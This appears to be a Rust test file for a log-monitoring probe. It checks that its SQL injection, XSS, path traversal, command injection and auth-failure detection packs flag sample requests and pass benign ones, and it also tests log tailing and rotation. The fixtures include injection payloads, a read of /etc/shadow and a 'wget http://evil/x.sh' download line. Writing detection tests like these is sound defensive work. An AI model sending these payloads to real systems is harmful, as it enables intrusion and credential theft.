use super::*;
use std::io::Write;

fn set(packs: &[PatternPack]) -> RegexSet {
    LogProbe {
        path: Some("x".into()),
        command: None,
        patterns: vec![],
        packs: packs.to_vec(),
        timeout: default_timeout(),
    }
    .compile()
    .unwrap()
}

#[test]
fn packs_catch_their_attacks_and_leave_ordinary_traffic_alone() {
    let cases: &[(PatternPack, &[&str])] = &[
        (
            PatternPack::SqlInjection,
            &[
                "GET /items?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1",
                "GET /login?user=admin' OR '1'='1 HTTP/1.1",
                "GET /q?id=5;DROP TABLE users HTTP/1.1",
                "GET /q?id=1 and sleep(5) HTTP/1.1",
            ],
        ),
        (
            PatternPack::Xss,
            &[
                "GET /search?q=<script>alert(1)</script> HTTP/1.1",
                "GET /search?q=%3Cscript%3Ealert(1) HTTP/1.1",
                "GET /p?x=<img src=x onerror=alert(1)> HTTP/1.1",
            ],
        ),
        (
            PatternPack::PathTraversal,
            &[
                "GET /static/../../etc/passwd HTTP/1.1",
                "GET /file?name=%2e%2e%2f%2e%2e%2fetc HTTP/1.1",
            ],
        ),
        (
            PatternPack::CommandInjection,
            &[
                "GET /ping?host=127.0.0.1;cat /etc/shadow HTTP/1.1",
                "GET /ping?host=$(whoami) HTTP/1.1",
                "GET /x?cmd=|wget http://evil/x.sh HTTP/1.1",
            ],
        ),
        (
            PatternPack::AuthFailure,
            &[
                "2024-05-01T10:00:00Z WARN authentication failed for user bob",
                "sshd[812]: Failed password for invalid user admin from 10.0.0.9",
                "10.0.0.9 - - [01/May/2024] \"POST /api/login HTTP/1.1\" 401 12",
                "login rejected: invalid password for alice",
            ],
        ),
    ];
    let benign = [
        "GET /items?id=42 HTTP/1.1",
        "GET /search?q=union+station+selection HTTP/1.1",
        "POST /api/orders HTTP/1.1 201",
        "2024-05-01T10:00:00Z INFO user alice logged in",
        "GET /static/app.js HTTP/1.1",
        "GET /docs/select-a-plan HTTP/1.1",
    ];
    for (pack, attacks) in cases {
        let s = set(&[*pack]);
        for a in *attacks {
            assert!(s.is_match(a), "{pack:?} missed: {a}");
        }
        for b in benign {
            assert!(!s.is_match(b), "{pack:?} flagged benign: {b}");
        }
    }
    let all = set(&[PatternPack::Security]);
    assert!(all.is_match(cases[0].1[0]) && all.is_match(cases[3].1[0]));
    assert!(
        !all.is_match(cases[4].1[0]),
        "security does not include auth failures"
    );
}

#[test]
fn validation_needs_one_source_and_good_patterns() {
    let mut p = LogProbe {
        path: None,
        command: None,
        patterns: vec!["ERROR".into()],
        packs: vec![],
        timeout: default_timeout(),
    };
    assert!(p.validate().unwrap_err().contains("path"));
    p.path = Some("/tmp/x".into());
    assert!(p.validate().is_ok());
    p.patterns = vec!["(unclosed".into()];
    assert!(p.validate().unwrap_err().contains("(unclosed"));
    p.patterns = vec![];
    assert!(p.validate().unwrap_err().contains("patterns"));
}

#[tokio::test]
async fn counts_only_lines_appended_since_the_previous_sample() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("app.log");
    std::fs::write(&path, "ERROR old\nERROR old\n").unwrap();
    let src = LogSource::new(LogProbe {
        path: Some(path.display().to_string()),
        command: None,
        patterns: vec!["ERROR".into()],
        packs: vec![],
        timeout: default_timeout(),
    });
    assert_eq!(src.read().await, Reading::Value(0.0), "starts at the end");
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(&path)
        .unwrap();
    write!(f, "INFO ok\nERROR one\nERROR two\nERROR par").unwrap();
    assert_eq!(src.read().await, Reading::Value(2.0), "partial line waits");
    writeln!(f, "tial").unwrap();
    assert_eq!(src.read().await, Reading::Value(1.0));
    assert_eq!(src.read().await, Reading::Value(0.0));
    // Rotated: the new file is shorter than the offset, read from its start.
    std::fs::write(&path, "ERROR new\n").unwrap();
    assert_eq!(src.read().await, Reading::Value(1.0));
    std::fs::remove_file(&path).unwrap();
    assert!(matches!(src.read().await, Reading::Missing(_)));
}

#[tokio::test]
async fn a_command_output_is_scanned_whole() {
    let src = LogSource::new(LogProbe {
        path: None,
        command: Some(vec!["printf".into(), "a ERROR\\nb\\nc ERROR\\n".into()]),
        patterns: vec!["ERROR".into()],
        packs: vec![],
        timeout: default_timeout(),
    });
    assert_eq!(src.read().await, Reading::Value(2.0));
    let bad = LogSource::new(LogProbe {
        path: None,
        command: Some(vec!["false".into()]),
        patterns: vec!["ERROR".into()],
        packs: vec![],
        timeout: default_timeout(),
    });
    assert!(matches!(bad.read().await, Reading::Missing(_)));
}
